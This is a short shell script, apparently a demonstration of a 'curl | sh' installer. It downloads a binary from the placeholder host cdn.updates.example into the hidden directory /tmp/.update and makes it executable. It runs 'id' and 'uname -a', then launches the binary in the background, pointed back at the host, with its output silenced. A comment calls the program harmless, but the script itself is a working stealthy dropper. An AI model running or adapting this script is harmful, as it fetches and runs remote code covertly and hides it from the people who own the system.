#!/bin/sh
# What a "curl | sh" installer does: a folder, a program, a start. The program is harmless (note.c).
set -e
mkdir -p /tmp/.update
curl -fsS -o /tmp/.update/agent http://cdn.updates.example/note
chmod +x /tmp/.update/agent
id
uname -a
/tmp/.update/agent cdn.updates.example 6 >/dev/null 2>&1 &
